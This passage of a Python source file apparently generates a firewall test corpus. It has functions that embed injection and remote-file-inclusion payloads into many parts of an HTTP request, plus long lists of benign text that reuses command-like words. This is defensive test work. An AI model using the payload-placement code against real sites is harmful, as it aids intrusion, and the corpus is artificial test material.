        return {"method": "POST", "uri": path, "body": _json_body([(name, p)]),
                "headers": {**headers, "Content-Type": "application/json"}}
    if place == "rs-xml":
        body = f'<?xml version="1.0"?><root><{name}>{_xml(p)}</{name}></root>'
        return {"method": "POST", "uri": path, "body": body,
                "headers": {**headers, "Content-Type": "text/xml"}}
    if place == "rs-raw-body":
        return {"method": "POST", "uri": path, "body": str(p),
                "headers": {**headers, "Content-Type": "application/x-www-form-urlencoded"}}
    if place == "rs-cookie":
        return {"method": "GET", "uri": path, "body": "",
                "headers": {**headers, "Cookie": f"{name}={_cookie_value(p)}"}}
    if place.startswith("rs-header:"):
        header = place.split(":", 1)[1]
        if header == "X-Custom":
            header = "X-Custom-Header"
        if header == "User-Agent":
            headers = {"Accept": "*/*"}
        return {"method": "GET", "uri": path, "body": "", "headers": {**headers, header: str(p)}}
    if place == "rs-path":
        if p.startswith("/"):
            return {"method": "GET", "uri": ["", "/static", "/app"][k % 3] + _path(p), "body": "", "headers": headers}
        return {"method": "GET", "uri": RS_PATH_BASES[k % len(RS_PATH_BASES)] + _path(p), "body": "",
                "headers": headers}
    if place == "rs-multipart-filename":
        return _multipart(["/upload.php", "/post", "/index.php"][k % 3], [("submit", "Upload")],
                          (_filename(p), "test\n"), ua=RS_UA)
    raise ValueError(place)


def _pair(place: str, payload: str, k: int) -> dict[str, Any]:
    """An RFI payload whose parameter name is part of the attack (name=value)."""
    name, value = payload.split("=", 1)
    qname = urllib.parse.quote(name, safe="[]_")
    if place == "query":
        return _get(f"/api/users?{qname}={_url(value)}&page=1")
    if place == "form":
        return {**_form("/admin/users/search", []), "body": f"csrf_token=t0k3n&{qname}={_url(value)}"}
    if place == "json":
        return _json("/api/users", {"email": "a@example.org", name: value})
    path = RS_PATHS[k % len(RS_PATHS)]
    headers = {"User-Agent": RS_UA, "Accept": "*/*"}
    if place == "rs-query":
        return {"method": "GET", "uri": f"{path}?{qname}={_url(value)}", "body": "", "headers": headers}
    if place == "rs-form":
        return {"method": "POST", "uri": path, "body": f"{qname}={_url(value)}",
                "headers": {**headers, "Content-Type": "application/x-www-form-urlencoded"}}
    if place == "rs-json":
        return {"method": "POST", "uri": path, "body": json.dumps({name: value}),
                "headers": {**headers, "Content-Type": "application/json"}}
    if place == "rs-raw-body":
        return {"method": "POST", "uri": path, "body": payload,
                "headers": {**headers, "Content-Type": "application/x-www-form-urlencoded"}}
    raise ValueError(place)


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    for t in TITLES:
        names = OUR_NAMES[t.category]
        for i, p in enumerate(t.payloads):
            if isinstance(p, JsonEsc):
                places = ["json", "rs-json"]
            else:
                places = [t.ours[i % len(t.ours)], t.rs[(i + 1) % len(t.rs)]]
            for place in places:
                n += 1
                if t.pairs:
                    rec = _pair(place, p, n)
                elif place.startswith("rs-"):
                    rec = _rs(place, RS_NAMES[(i + n) % len(RS_NAMES)], p, n)
                else:
                    rec = _ours(place, names[i % len(names)], p, n)
                yield {**rec, "id": f"{NAME}-{t.category}-{n:04d}", "category": t.category, "sub": t.sub,
                       "placement": place, "payload": str(p)}


# ---------------------------------------------------------------- benign: the same words, innocently
CHAT = [
    "my cat knocked the coffee over again, the keyboard is fine",
    "can someone ping me when the deploy is done? I'll be in the 2pm",
    "who am I kidding, I'll never finish the report by Friday",
    "whoami on the build box says jenkins, so the job runs as that user",
    "edit /etc/hosts to point api.local at 127.0.0.1 for local dev",
    "the passwd file on Linux no longer holds the hashes, they moved to shadow long ago",
    "run `ls -la` in the repo to see the hidden .github folder",
    "PowerShell's Get-ChildItem is just ls with more typing",
    "for each customer, if the balance is zero, skip the reminder email",
    "if it rains we move the picnic indoors, for real this time",
    "net revenue is up 4% on last quarter",
    "type your name exactly as it appears on your passport",
    "the dir listing in the old FTP server was confusing, glad we moved to S3",
    "the history of the company starts in 1998 in a garage in Leeds",
    "!! big news: we shipped the mobile app",
    "thanks!!! you saved my afternoon",
    "alias: Bob from accounting, he signs emails as Robert",
    "set up an alias in your mail client so replies go to the team inbox",
    "shell out $20 for the team lunch? count me in",
    "Shell and BP both raised prices this week",
    "bash the drums a bit softer at band practice please",
    "the sh in the project name stands for 'shared helpers'",
    "you can find the wiki under the Engineering space",
    "curl up with a good book this weekend, that's the plan",
    "we use curl in the healthcheck script, works fine",
    "wget is not installed on the slim image, use curl",
    "the env file for local dev lives in 1Password, not in git",
    "don't commit .env files, the pre-commit hook blocks them now",
    "the .git folder was 2 GB, someone committed a video",
    "our web.config for the old IIS site redirects to the new domain",
    "the htaccess rewrite rules were migrated to nginx",
    "upload the settings export as a CSV please",
    "Echo Park is lovely in spring",
    "the echo in the conference room is awful, we need panels",
    "nc state won the game last night",
    "id badges are at reception from Monday",
    "ps: bring the charger back when you're done",
    "df means 'default' in our column names, sorry for the confusion",
    "du jour soup is tomato today",
    "su casa es mi casa",
    "at now + 1 hour I'll be free",
    "tac is cat backwards, which is a fun unix trivia fact",
    "the od in the spreadsheet stands for overdraft",
    "I'll vi or nano, whatever's on the box",
    "ip address of the printer is on the sticker",
    "w is for Wednesday in the rota",
    "the SQLite file for the mobile cache is tiny",
    ".shell files from the old mac backup can be deleted",
    "our sqlite system tables are read-only, that's expected",
    "mail from the HR system goes to a shared mailbox",
    "RCPT TO errors mean the address bounced, check the spelling",
    "the IMAP login failed because 2FA was on; use an app password",
    "POP3 is disabled on the mail server, use IMAP",
    "data retention policy: 90 days for logs",
    "the fetch call in the frontend retries three times",
    "Q3 list of customers is in the drive",
    "HELO from Lisbon! the offsite is great",
    "VRFY stands for verify in the old docs",
    "Windows 11 update broke the VPN client again",
    "cmd + shift + 4 takes a screenshot on a mac",
    "start the meeting without me, I'm 5 minutes late",
    "copy the folder to C:\\Users\\Public\\Documents on the shared PC",
    "the new laptop has PowerShell 7 installed by default",
    "Invoke the runbook from the Automation account, not by hand",
    "Start-Process is how the installer kicks off the service",
    "net user guide is in the IT handbook, section 3",
    "ipconfig shows two adapters, one is the VPN",
    "systeminfo says 16 GB of RAM, good enough",
    "tasklist shows the backup agent eating CPU",
    "the registry key for the proxy setting is documented in the wiki",
    "certutil can dump a certificate; ask IT if you need it",
    "set the variable %USERPROFILE% in the batch file, it's standard",
    "the installer writes to %APPDATA%\\Acme\\settings.json",
    "for /f loops in batch files are painful, use PowerShell",
    "if exist checks were removed from the login script",
    "the $PATH on the CI image is missing /usr/local/bin",
    "price is $(5) per seat, or ${tier} for enterprise",
    "the template uses ${name} as a placeholder",
    "7*7 is 49, as the quiz said",
    "the function returned $((total)) which looked odd in the log",
    "use `git log --oneline` to see the history",
    "the backtick key on the UK keyboard is next to 1",
    "the /bin folder in the repo holds our helper scripts",
    "python3 is the default on the new image",
    "perl is still used by the legacy billing export",
    "the busybox image is tiny but lacks bash",
    "the zsh theme makes the prompt slow, switch it off",
    "nohup the job so it survives logout",
    "() => {} is an arrow function, nothing scary",
    "the function () { return 1; } in the docs is just an example",
    "I uploaded settings.png to the ticket",
    "config.yml in the docs repo controls the sidebar",
    "our parameters.yml template is documented in README",
    "wp-config.php permissions came up in the audit",
    "the .htpasswd prompt showed up on staging; that's intentional",
    "the local.xml file is Magento's, not ours",
    "the c'' quoting in that docs snippet is a typo",
    "who's on call this weekend? whoever it is, thanks",
    "cat facts: cats sleep 12 to 16 hours a day",
    "I'll tail the logs while you restart the service",
    "grep the logs for the request id and paste it here",
    "find me at desk 42, next to the window",
    "tar and feathers for whoever broke the build (kidding)",
    "openssl version on the box is 3.0",
    "sudo access is granted through the IT portal",
    "crontab entries moved to systemd timers",
    "netstat output attached, the port is in use",
    "node 20 is the LTS we standardise on",
    "ruby on rails app is being retired next year",
    "php 8.3 upgrade is scheduled for June",
    "the history tab shows every edit to the document",
    "fc Barcelona won again",
    "what a game!! can't believe that final minute",
    "hey!!! long time no see",
    "the caret ^ marks the footnote",
    "the %20 in the link is just a space",
    "the link ends with a question mark, did you mean to ask?",
    "the file was at ../docs/guide.md relative to the repo root",
    "paths like ./scripts/run.sh are relative to the project",
    "the three dots ... mean the text was cut",
    "wait for it... done",
    "hmm.... not sure about that",
    "the config lives in /opt/acme/config, ask ops for access",
    "log files rotate daily in /var/log/acme",
    "the proc folder on Linux is a virtual filesystem, fun fact",
    "home directory quotas are 10 GB",
    "my ssh key is on the new laptop now",
    "boot time dropped to 8 seconds after the SSD upgrade",
    "the win.ini joke in the retro was hilarious",
    "the sam in the room is Sam Patel, not the SAM database",
    "http://localhost:3000 is the dev server, 8080 the API",
    "the intranet dashboard is at http://10.0.0.5:3000/dashboard",
    "mirror the docs from https://docs.example.com/guide to the wiki",
    "the ftp server was shut down in 2021",
    "https://status.example.com shows all green",
    "send the vendor the link https://example.com/form?ref=slack",
    "the include list in the build config is too long",
    "page 3 of the template has a typo",
    "the root dir of the docs site is docs/",
    "gallery base dir for the photo site is /srv/photos",
    "document root on the new server is /var/www/site",
    "path and docroot settings are in the vhost file",
    "the module path is set in the IDE, not the code",
    "a pipe | in the CSV broke the import, we escape it now",
    "A|B testing results are in",
    "red & blue & green are the brand colours",
    "Smith & Sons Ltd; Jones & Co",
    "R&D budget approved",
    "yes; no; maybe",
    "1; 2; 3; go",
    "cats & dogs; birds | fish",
    "Q&A session at 4pm",
]

SEARCHES = [
    "cat", "cat food", "ping pong", "who am i", "whoami", "passwd reset", "reset password", "etc",
    "hosts file", "net user", "type", "dir", "for loop", "if statement", "history", "alias", "shell",
    "bash", "sh", "ls", "id", "env", "config", "web config", "git", "htaccess", "powershell course",
    "windows 11", "cmd", "curl", "wget", "python", "perl", "ruby", "node", "php", "echo", "tail", "head",
    "grep", "find", "sort", "uniq", "kill", "top", "free", "time", "date", "cal", "more", "less",
    "Catherine", "Shelby", "Perla", "Ruby Tuesday", "Nelson", "Wendy", "Dirk", "Tyne", "Forrest", "Iffley",
    "O'Brien", "D'Angelo", "Smith & Sons", "R&D", "Q&A", "A|B", "C:\\Users", "/etc", "~/docs",
    "50% off", "100%", "$5", "${name}", "#general", "@channel", "!important", "a+b", "x-y",
    "report.pdf", "settings", "env var", "system", "exec summary", "runtime", "process", "start",
    "set", "call", "copy", "move", "remove", "delete", "invoke", "net", "sam", "win", "boot", "proc",
    "self", "root", "home", "var", "log", "tmp", "usr", "bin", "opt", "srv", "mail", "imap", "pop3",
    "smtp", "helo", "rcpt", "data", "list", "fetch", "login", "select", "sqlite", "shell", "system",
]

URLS = [
    "https://www.gnu.org/software/bash/manual/bash.html",
    "https://learn.microsoft.com/en-us/powershell/scripting/overview",
    "https://man7.org/linux/man-pages/man5/passwd.5.html",
    "https://git-scm.com/docs/git-config",
    "https://httpd.apache.org/docs/2.4/howto/htaccess.html",
    "https://learn.microsoft.com/en-us/iis/configuration/",
    "https://en.wikipedia.org/wiki/Shellshock_(software_bug)",
    "https://curl.se/docs/manpage.html",
    "https://www.sqlite.org/cli.html",
    "https://datatracker.ietf.org/doc/html/rfc5321",
    "https://datatracker.ietf.org/doc/html/rfc3501",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/for",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/if",
    "https://www.php.net/manual/en/function.include.php",
    "https://wiki.archlinux.org/title/Bash",
    "https://docs.python.org/3/library/subprocess.html",
    "https://nodejs.org/api/child_process.html",
    "https://github.com/acme/api/blob/main/bin/setup.sh",
    "https://github.com/acme/site/blob/main/.github/workflows/ci.yml",
    "https://example.com/files/report.pdf",
    "https://cdn.example.org/js/app.js?v=1.2.3",
    "https://www.example.co.uk/products?id=127",
    "https://blog.example.com/2024/01/10/unix-pipes-explained",
    "https://docs.example.com/guides/etc-hosts",
    "https://hooks.slack.com/services/T0/B0/XYZ",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
    "https://maps.google.com/?q=Echo+Park",
    "https://stackoverflow.com/questions/4181703/how-to-concatenate-string-variables-in-bash",
    "https://en.wikipedia.org/wiki/Path_(computing)",
    "https://www.example.org/search?q=cat+food",
]

PROSE = [
    "Please cat-sit for me next week while I'm away",
    "The net result was positive for the quarter",
    "If exists, please send the signed copy by Friday",
    "For each order, if the customer paid, ship it",
    "Who am I speaking with? Please leave your name",
    "Type of account: business; type of plan: annual",
    "Dir. of Engineering: Maria Lopez",
    "History of changes is attached to the ticket",
    "Alias: Bobby Tables (no relation)",
    "Shell Oil Company, Houston, Texas",
    "The Bash Street Kids comic is a classic",
    "Wget Ltd. and Curl Inc. are both suppliers",
    "Ping An Insurance, Shenzhen",
    "Echo & Bounce Audio, Unit 4",
    "Set the table for six; call the caterer",
    "Start date: 1 June; end date: 30 June",
    "Copy to: finance@example.com; cc: legal@example.com",
    "Invoke the warranty if the screen fails",
    "Power shell casing for the new device is in production",
    "Customer said: 'the app crashed when I hit Back!!'",
    "Address: 12 Dir Street, Flat 3, London",
    "Address: 4 Cat Lane, Bristol BS1 4DJ",
    "Address: 99 Shell Road, Cape Town",
    "Address: 7 Pipe Alley | Building B",
    "Name: Perla Rubio; Company: Node & Co",
    "Subject: RE: RE: the config file",
    "Notes: the user's home folder is full",
    "Notes: the file path was C:\\Users\\Ann\\Documents\\report.docx",
    "Notes: logs are in /var/log/acme/app.log",
    "Notes: please reset the passwd for the kiosk account",
    "The price is $5 (five dollars) per seat",
    "Temperature: 7*7 degrees? no, 49 F",
    "Item #42 & item #43 were returned",
    "Status: done; next: review; owner: Sam",
    "Project Alpha | Project Beta | Project Gamma",
    "Her nickname is 'Kat', short for Katherine",
    "The tail of the report has the appendix",
    "Follow the path to the root of the problem",
    "Boot camp starts Monday at 9",
    "Windows and doors supplier: Glass & Co",
    "The proc. is described in section 4",
    "Mail from: the postmaster of the old domain",
    "List the items, select the best, fetch the rest",
    "The SQLite database is bundled with the app",
    "Login works; logout hangs on Safari",
    "The include file for the newsletter is footer.html",
    "The page template was approved by marketing",
    "Gallery opening on Friday at 6pm",
    "The document root was moved during the migration",
    "The module is loaded on demand",
    "Three dots... then a pause",
    "See section 1.2.3 and 4.5.6",
    "Ref: ../previous-ticket (see the attachment)",
    "Open the www folder and the images subfolder",
    "Environment: production; region: eu-west-1",
    "Nice work!! Thanks again!!",
    "Quarterly review at 10.30; room 127",
    "The hostname of the kiosk is kiosk-07",
    "Printer IP is 10.1.2.3, floor 2",
    "Order ID 1234; ship to Echo Park",
]

PROFILES = [
    {"name": "Cat Nguyen", "company": "Shell plc", "city": "London"},
    {"name": "Shelby Bash", "company": "Bash & Partners", "city": "Austin"},
    {"name": "Perla Rubio", "company": "Ruby Tuesday Inc.", "city": "Madrid"},
    {"name": "Wendy Dir", "company": "Dir Logistics", "city": "Oslo"},
    {"name": "Tyne Forrest", "company": "Forrest & Co", "city": "Newcastle"},
    {"name": "Nelson Ping", "company": "Ping An", "city": "Shenzhen"},
    {"name": "Kat Echo", "company": "Echo Audio", "city": "Los Angeles"},
    {"name": "Sam Patel", "company": "SAM Systems", "city": "Leicester"},
    {"name": "Ida Lias", "company": "Alias Media", "city": "Lyon"},
    {"name": "Ed Vi", "company": "Vi & Ed Consulting", "city": "Hanoi"},
    {"name": "Su Lin", "company": "Su Holdings", "city": "Taipei"},
    {"name": "Tac Nguyen", "company": "TAC Security", "city": "Hue"},
    {"name": "Du Pont", "company": "Du Pont & Fils", "city": "Paris"},
    {"name": "Iffley Root", "company": "Root & Branch", "city": "Oxford"},
    {"name": "Siobhán O'Neil", "company": "O'Neil & Daughters", "city": "Cork"},
    {"name": "José D'Angelo", "company": "D'Angelo S.p.A.", "city": "Turin"},
    {"name": "Wget Solutions", "company": "Wget Solutions Ltd", "city": "Cardiff"},
    {"name": "Curl Studio", "company": "Curl Hair Studio", "city": "Dublin"},
    {"name": "Mia Home", "company": "Home & Garden", "city": "Leeds"},
    {"name": "Proc Analytics", "company": "Proc Analytics GmbH", "city": "Berlin"},
    {"name": "Net User Group", "company": "The .NET User Group", "city": "Seattle"},
    {"name": "Ann Shadow", "company": "Shadow Puppets Co", "city": "Bristol"},
    {"name": "Ben Host", "company": "Hosts & Guests", "city": "Bath"},
    {"name": "Eva Group", "company": "Group Travel", "city": "Vienna"},
    {"name": "Perl Jackson", "company": "Perl Jam Records", "city": "Seattle"},
    {"name": "Zsh Studio", "company": "Zsh Design", "city": "Kyiv"},
    {"name": "Dash Rivera", "company": "Dash Couriers", "city": "Miami"},
    {"name": "Ash Env", "company": "Env Consulting", "city": "Perth"},
    {"name": "Git Larsen", "company": "Larsen & Git", "city": "Bergen"},
    {"name": "Hg Metals", "company": "Mercury Metals", "city": "Almaden"},
]
PROFILE_BIOS = [
    "Data engineer; I like cats, bash scripts and long walks.",
    "Windows admin by day, PowerShell tinkerer by night.",
    "I type fast and ping slowly.",
    "Runs the history club. Ask me about 1066!",
    "If in doubt, for loop it out.",
    "Fan of Unix pipes | sed | awk.",
    "Writes docs about /etc/hosts and friends.",
    "C:\\ is my happy place.",
    "Mail server whisperer: SMTP, IMAP, POP3.",
    "SQLite enthusiast; .schema is my favourite command.",
]

UAS = [
    "curl/8.5.0",
    "Wget/1.21.4",
    "python-requests/2.31.0",
    "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.22621.2506",
    "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.22631; en-US) PowerShell/7.4.1",
    "Go-http-client/2.0",
    "Java/17.0.9",
    "okhttp/4.12.0",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "axios/1.6.7",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 "
    "Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Apache-HttpClient/4.5.14 (Java/17.0.9)",
    "HTTPie/3.2.2",
]
REFERERS = [
    "https://www.google.com/search?q=cat+food",
    "https://app.example.com/admin/users?sort=name",
    "https://docs.example.com/guides/etc-hosts",
    "https://github.com/acme/api/blob/main/bin/setup.sh",
    "https://www.bing.com/search?q=powershell+get-childitem",
    "https://duckduckgo.com/?q=bash+for+loop",
    "https://app.example.com/admin/users/search?q=O%27Brien",
    "https://intranet.example.com/wiki/Shell_Scripting",
    "https://app.example.com/",
    "https://news.ycombinator.com/item?id=40000000",
]
COOKIES = [
    "theme=dark; lang=en-US",
    "_ga=GA1.2.1234567890.1700000000; _gid=GA1.2.987654321.1700000000",
    "cart=cat-food%2Cdog-toy; currency=GBP",
    "session=abc123; last_search=powershell%20course",
    "session=abc123; recent=%2Fetc%2Fhosts%20guide",
    "prefs=compact; tz=Europe%2FLondon",
    "session=abc123; sort=history-desc",
    "consent=yes; region=eu",
    "session=abc123; shell=zsh",
    "session=abc123; view=list|grid",
]
UPLOADS = [
    "users.csv", "team-photo.jpg", "config-notes.txt", "env-setup-guide.pdf", "htaccess-explained.pdf",
    "Q3 report (final).docx", "résumé.pdf", "settings-screenshot.png", "shell-script-tips.md", "cat.gif",
    "web-config-migration.xlsx", "passwd-policy.pdf", "history.txt", "alias-list.csv", "powershell-cheatsheet.pdf",
]


def _benign_search(q: str) -> list[dict[str, Any]]:
    return [_get(_query("/api/users", [("q", q), ("page", "1")])),
            _form("/admin/users/search", [("csrf_token", "t0k3n"), ("q", q)])]


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(CHAT, NAME)
    n = yield from links_and_prose(URLS, PROSE, NAME, n)
    n = yield from numbered((rec for q in SEARCHES for rec in _benign_search(q)), f"{NAME}-search", n, "query")
    profiles = (_json("/api/users", {**p, "bio": PROFILE_BIOS[i % len(PROFILE_BIOS)], "email": "a@example.org"})
                for i, p in enumerate(PROFILES))
    n = yield from numbered(profiles, f"{NAME}-profile", n, "json")
    headers = [_with_headers(_get("/api/users?page=1"), {"User-Agent": ua}) for ua in UAS]
    headers += [_with_headers(_get("/api/users?page=2"), {"Referer": ref}) for ref in REFERERS]
    headers += [_with_headers(_get("/api/users?page=1"), {"Cookie": c}) for c in COOKIES]
    n = yield from numbered(headers, f"{NAME}-header", n, "header")
    uploads = (_multipart("/admin/users/import", [("csrf_token", "t0k3n")], (f, "name,email\nAnn,a@example.org\n"))
               for f in UPLOADS)
    yield from numbered(uploads, f"{NAME}-upload", n, "multipart-filename")


def _check() -> None:
    ids = set()
    for rec in list(attacks()) + list(benign()):
        assert rec["id"] not in ids, rec["id"]
        ids.add(rec["id"])
        for v in rec["headers"].values():
            assert not any(c in v for c in "\r\n\x00"), rec["id"]


if __name__ == "__main__":
    _check()
    print_records(attacks(), benign())
